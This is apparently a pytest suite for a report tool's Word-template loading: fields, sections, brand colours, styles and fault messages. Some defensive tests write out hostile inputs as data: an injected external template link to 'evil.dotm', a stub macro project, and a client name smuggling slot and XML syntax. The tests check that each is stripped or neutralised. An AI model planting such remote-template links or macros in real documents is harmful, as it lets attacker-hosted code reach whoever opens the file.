"""A firm's own template: its Word file as it is, slots, brand, and one sentence for each fault."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from docx.document import Document as DocumentObject
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import Mm
from files.building import done_well, refused, run
from office import parts, rezipped

from cxassess.errors import InvalidInput
from cxassess.files.templates import find_template, new_template, read_template, shipped_templates, warnings_of
from cxassess.report.colour_check import brand_warnings, distances_of
from cxassess.report.compose import SECTIONS
from cxassess.report.compose.fields import FIELDS
from cxassess.report.palette import HOUSE, LEVELS, MAIN, Brand
from report.every_document import example, word


@pytest.fixture
def firm(tmp_path: Path) -> Path:
    """A starter folder."""
    new_template(tmp_path / "firm", "full")
    return tmp_path / "firm"


def changed(path: Path, change: Callable[[DocumentObject], object]) -> None:
    """Open a Word file, change it and save it, as a person would."""
    document = Document(str(path))
    change(document)
    document.save(str(path))


def faults(path: Path) -> list[str]:
    with pytest.raises(InvalidInput) as error:
        read_template(path)
    return [str(problem) for problem in error.value.problems]


def report(demo_folder: Path, template: Path | str, out: Path) -> DocumentObject:
    done_well(run("report", demo_folder, "--template", template, "--format", "docx", "--no-page-numbers", "-o", out))
    return Document(str(out))


def text_of(document: DocumentObject) -> list[str]:
    return [paragraph.text for paragraph in document.paragraphs]


# ── a starter, and what a person does with it ────────────────────────────────────────────────────────────────


def test_a_report_over_an_untouched_starter_is_the_shipped_report(
    firm: Path, demo_folder: Path, tmp_path: Path
) -> None:
    report(demo_folder, firm, tmp_path / "firm.docx")
    assert (tmp_path / "firm.docx").read_bytes() == (demo_folder / "reports" / "2026" / "report.docx").read_bytes()


def test_sections_are_moved_left_out_and_framed_by_own_pages(firm: Path, demo_folder: Path, tmp_path: Path) -> None:
    def edit(document: DocumentObject) -> None:
        body = document.element.body
        for child in list(body)[:-1]:
            body.remove(child)
        for line in ("About us", "{{block:stage}}", "Between two sections", "{{ block:summary }}", "Our terms"):
            document.add_paragraph(line)

    changed(firm / "template.docx", edit)
    written = text_of(report(demo_folder, firm, tmp_path / "out.docx"))
    order = [written.index(text) for text in ("About us", "Orientation stage", "Between two sections", "Our terms")]
    assert order == sorted(order)
    assert written.index("Executive summary") > written.index("Between two sections")
    assert not any("{{" in line or "Roadmap" in line for line in written)


def test_fields_are_filled_in_text_tables_headers_and_split_runs(firm: Path, demo_folder: Path, tmp_path: Path) -> None:
    def edit(document: DocumentObject) -> None:
        split = document.add_paragraph("For ")
        for part in ("{{cli", "ent.na", "me}}", " in {{wave.id}}"):
            split.add_run(part)
        table = document.add_table(1, 1)
        table.cell(0, 0).text = "Score {{score.overall}}"
        document.sections[0].footer.paragraphs[0].add_run(" {{numbers.fingerprint}}")

    changed(firm / "template.docx", edit)
    document = report(demo_folder, firm, tmp_path / "out.docx")
    assert "For Kestrel Broadband in 2026" in text_of(document)
    assert any(table.cell(0, 0).text == "Score 2.6" for table in document.tables if len(table.columns) == 1)
    assert re.search(r" [0-9a-f]{8}$", document.sections[0].footer.paragraphs[0].text)


def test_a_client_called_like_a_slot_is_text(firm: Path, tmp_path: Path) -> None:
    name = "{{block:summary}} & <w:p/> {{wave.id}}"
    done_well(run("new", tmp_path / "acme", "--client", name, "--wave", "2026", "--as-of", "2026-03-12"))
    rows = tmp_path / "answers.csv"
    rows.write_text(
        "respondent,role,unit,question,answer,comment,evidence\nAna,executive,,STR1,3,,\n", encoding="utf-8"
    )
    done_well(run("import", "answers", tmp_path / "acme", rows))
    document = report(tmp_path / "acme", firm, tmp_path / "out.docx")
    assert name in text_of(document)


# ── a firm's file as it is ───────────────────────────────────────────────────────────────────────────────────


def test_a_firms_own_word_file_gives_its_margins_and_gets_the_styles_it_lacks(
    demo_folder: Path, tmp_path: Path
) -> None:
    own = tmp_path / "letter.docx"
    blank = Document()
    blank.add_paragraph("Sample text of the letterhead")
    blank.sections[0].left_margin = blank.sections[0].right_margin = Mm(30)
    blank.save(str(own))
    document = report(demo_folder, own, tmp_path / "out.docx")
    assert "Sample text of the letterhead" not in text_of(document)
    widths = {round(sum(column.width or 0 for column in table.columns) / 36_000) for table in document.tables}
    rooms = {
        round(((s.page_width or 0) - (s.left_margin or 0) - (s.right_margin or 0)) / 36_000) for s in document.sections
    }
    assert len(rooms) == 2  # upright, and the roadmap on its side
    assert widths <= {room + off for room in rooms for off in (-1, 0, 1)}
    assert "Section Label" in {style.name for style in document.styles}


@pytest.mark.parametrize("suffix", ["dotx", "docm", "dotm"])
def test_templates_and_macro_files_open_without_their_macros(demo_folder: Path, tmp_path: Path, suffix: str) -> None:
    kind = {
        "dotx": "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
        "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
        "dotm": "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    }[suffix]
    plain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

    def change(name: str, part: bytes) -> bytes:
        return part.replace(plain.encode(), kind.encode()) if name == "[Content_Types].xml" else part

    house = (find_template("full") / "template.docx").read_bytes()
    own = tmp_path / f"firm.{suffix}"
    own.write_bytes(rezipped(house, change, **{"word/vbaProject.bin": b"macro"}))
    template = read_template(own)
    assert [note for note in template.notes if "macros were left out" in note] != []
    written = parts(word(example(demo_folder), template, sections=("stage",)))
    assert "word/vbaProject.bin" not in written
    assert plain in written["[Content_Types].xml"].decode()


def test_a_template_that_would_be_fetched_from_elsewhere_is_cut_off(tmp_path: Path) -> None:
    attack = (
        b'<Relationship Id="rId999" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://example.org/evil.dotm" TargetMode="External"/></Relationships>'
    )

    def change(name: str, part: bytes) -> bytes:
        return part.replace(b"</Relationships>", attack) if name == "word/_rels/document.xml.rels" else part

    own = tmp_path / "firm.docx"
    own.write_bytes(rezipped((find_template("full") / "template.docx").read_bytes(), change))
    template = read_template(own)
    assert b"evil.dotm" not in b"".join(
        zipfile.ZipFile(io.BytesIO(template.docx)).read(n) for n in ["word/_rels/document.xml.rels"]
    )
    assert any("fetched from elsewhere" in note for note in template.notes)


# ── brand ────────────────────────────────────────────────────────────────────────────────────────────────────


def test_colours_of_the_word_theme_reach_tables_and_charts(firm: Path, demo_folder: Path, tmp_path: Path) -> None:
    def change(name: str, part: bytes) -> bytes:
        return part.replace(b"17406D", b"7B1FA2") if name.startswith("word/theme/") else part

    file = firm / "template.docx"
    file.write_bytes(rezipped(file.read_bytes(), change))
    assert read_template(firm).brand.colour(MAIN) == "#7B1FA2"
    report(demo_folder, firm, tmp_path / "out.docx")
    body = zipfile.ZipFile(tmp_path / "out.docx").read("word/document.xml").decode()
    assert 'w:fill="7B1FA2" w:themeFill="accent1"' in body
    assert "17406D" not in body


def test_brand_toml_goes_before_the_theme_and_reaches_headings_and_workbook(
    firm: Path, demo_folder: Path, tmp_path: Path
) -> None:
    (firm / "brand.toml").write_text('format = 1\n[colours]\nmain = "#7B1FA2"\n', encoding="utf-8")
    done_well(run("report", demo_folder, "--template", firm, "--no-page-numbers", "-o", tmp_path / "out"))
    styles = zipfile.ZipFile(tmp_path / "out" / "workbook.xlsx").read("xl/styles.xml").decode()
    assert "FF7B1FA2" in styles
    assert "FF17406D" not in styles
    styles = zipfile.ZipFile(tmp_path / "out" / "report.docx").read("word/styles.xml").decode()
    assert 'w:val="7B1FA2"' in styles
    assert "17406D" not in styles


def test_a_style_of_the_firm_stands_for_one_of_ours(firm: Path, demo_folder: Path, tmp_path: Path) -> None:
    changed(firm / "template.docx", lambda document: document.styles.add_style("Firm Heading", 1))
    (firm / "brand.toml").write_text('format = 1\n[styles]\n"Heading 1" = "Firm Heading"\n', encoding="utf-8")
    document = report(demo_folder, firm, tmp_path / "out.docx")
    assert {p.style.name for p in document.paragraphs if p.style and "Heading" in p.style.name} >= {"Firm Heading"}
    assert not any(p.style and p.style.name == "Heading 1" for p in document.paragraphs)


def test_the_house_has_no_warning_and_pale_or_like_colours_have_one() -> None:
    assert list(brand_warnings(HOUSE)) == []
    said = " ".join(brand_warnings(Brand({MAIN: "#AABBCC", **dict.fromkeys(LEVELS, "#888888")})))
    assert "faint as text on white" in said
    assert "level1 and level2 look alike" in said


def test_red_and_green_of_one_lightness_are_alike_for_some_and_far_apart_for_others() -> None:
    red_and_green, navy_and_rust = distances_of("#C04040", "#7A7A10"), distances_of("#17406D", "#C2512B")
    assert min(red_and_green, key=lambda s: red_and_green[s]) in {"protanopia", "deuteranopia"}
    assert min(red_and_green.values()) < min(navy_and_rust.values())


def test_pages_of_ones_own_may_have_headings(
    firm: Path, demo_folder: Path, tmp_path: Path, needs: Callable[[str], str]
) -> None:
    needs("soffice")

    def edit(document: DocumentObject) -> None:
        place = next(p for p in document.paragraphs if p.text == "{{block:stage}}")
        place.insert_paragraph_before("Our approach", style="Heading 1").paragraph_format.page_break_before = True

    changed(firm / "template.docx", edit)
    said = done_well(run("report", demo_folder, "--template", firm, "--format", "docx", "-o", tmp_path / "out.docx"))
    assert "without page numbers" not in said
    entries = [p.text for p in Document(str(tmp_path / "out.docx")).paragraphs if p.style and p.style.name == "toc 1"]
    assert [entry for entry in entries if not re.search(r"\t\d+$", entry)] == []


# ── faults ───────────────────────────────────────────────────────────────────────────────────────────────────


def test_every_fault_of_a_document_is_named_at_once_with_its_place(firm: Path) -> None:
    def edit(document: DocumentObject) -> None:
        document.add_paragraph("Dear {{clinet.name}}, {{ and so on")
        document.add_paragraph("See {{block:summary}} here")
        document.add_paragraph("{{block:road_map}}")
        document.add_paragraph("{{block:summary}}")
        table = document.add_table(2, 2)
        table.cell(1, 1).text = "{{report.dat}}"
        document.sections[0].header.paragraphs[0].add_run("{{block:stage}}")

    changed(firm / "template.docx", edit)
    (firm / "outline.toml").write_text('format = 1\ntitle = "T"\nsections = ["sumary"]\n', encoding="utf-8")
    (firm / "brand.toml").write_text(
        'format = 1\n[colours]\nmain = "navy"\n[charts]\nfont_files = ["none.ttf"]\n', encoding="utf-8"
    )
    said = "\n".join(faults(firm))
    for expected in (
        "outline.toml › sections: “sumary” was read",
        "did you mean summary?",
        "brand.toml › colours.main: “navy” was read, a colour such as #17406D was expected",
        "there is no field “clinet.name” (did you mean client.name?)",
        "a slot is broken",
        "must stand alone in its paragraph",
        "there is no section “road_map” (did you mean roadmap?)",
        "stands here a second time",
        "table 1, row 2, column 2: there is no field “report.dat” (did you mean report.date?)",
        "header",
    ):
        assert expected in said, said


def test_fonts_styles_and_slots_that_cannot_serve_are_faults(firm: Path) -> None:
    changed(firm / "template.docx", lambda document: document.add_paragraph("{{block:all}}"))
    (firm / "outline.toml").write_text('format = 1\ntitle = "T"\nsections = ["cover", "cover"]\n', encoding="utf-8")
    (firm / "brand.toml").write_text(
        'format = 1\n[charts]\nfont_files = ["outline.toml"]\n[styles]\n"Note" = "Table Grid"\n', encoding="utf-8"
    )
    said = "\n".join(faults(firm))
    assert "outline.toml is no TrueType or OpenType font" in said
    assert "has no paragraph style “Table Grid”" in said
    assert "stands beside {{block:all}}, which holds every section already" in said
    assert "“cover” stands there twice" in said


def test_a_small_page_and_a_missing_font_are_warned_of(firm: Path) -> None:
    def narrow(document: DocumentObject) -> None:
        document.sections[0].left_margin = Mm(60)

    changed(firm / "template.docx", narrow)
    (firm / "brand.toml").write_text('format = 1\n[charts]\nfont = "No Such Sans"\n', encoding="utf-8")
    said = " ".join(warnings_of(read_template(firm)))
    assert "made for 160 × 240 mm" in said
    assert "“No Such Sans” is neither installed" in said


def test_a_file_that_is_no_word_document_is_one_sentence(tmp_path: Path) -> None:
    (tmp_path / "firm.docx").write_bytes(b"not a zip")
    assert "firm.docx: is not a Word document" in faults(tmp_path / "firm.docx")[0]
    refused(run("template", "check", tmp_path / "nowhere"), "nor a Word file")


def test_a_text_box_is_a_place_too(firm: Path) -> None:
    box = (
        f'<w:p {nsdecls("w")}><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>'
        "<w:p><w:r><w:t>{{wave.idd}}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    )
    changed(firm / "template.docx", lambda document: document.element.body.insert(0, parse_xml(box)))
    assert "text box at paragraph 1: there is no field “wave.idd” (did you mean wave.id?)" in faults(firm)[0]


def test_a_folder_that_holds_something_is_left_alone(firm: Path) -> None:
    before = (firm / "template.docx").read_bytes()
    refused(run("template", "new", firm), "holds something already")
    assert (firm / "template.docx").read_bytes() == before


# ── what ships ───────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("name", [name for name, _ in shipped_templates()])
def test_shipped_templates_are_sound_and_say_their_purpose(name: str) -> None:
    assert dict(shipped_templates())[name]
    assert warnings_of(read_template(find_template(name))) == ()


def test_a_shipped_template_is_taken_by_its_name(demo_folder: Path, tmp_path: Path) -> None:
    written = text_of(report(demo_folder, "board", tmp_path / "out.docx"))
    assert len(written) < len(text_of(Document(str(demo_folder / "reports" / "2026" / "report.docx"))))


def test_template_fields_lists_every_slot_with_its_value(demo_folder: Path) -> None:
    said = done_well(run("template", "fields", demo_folder))
    assert "{{client.name}}" in said
    assert "Kestrel Broadband" in said
    assert [id for id in FIELDS if f"{{{{{id}}}}}" not in said] == []
    assert [id for id in SECTIONS if f"{{{{block:{id}}}}}" not in said] == []
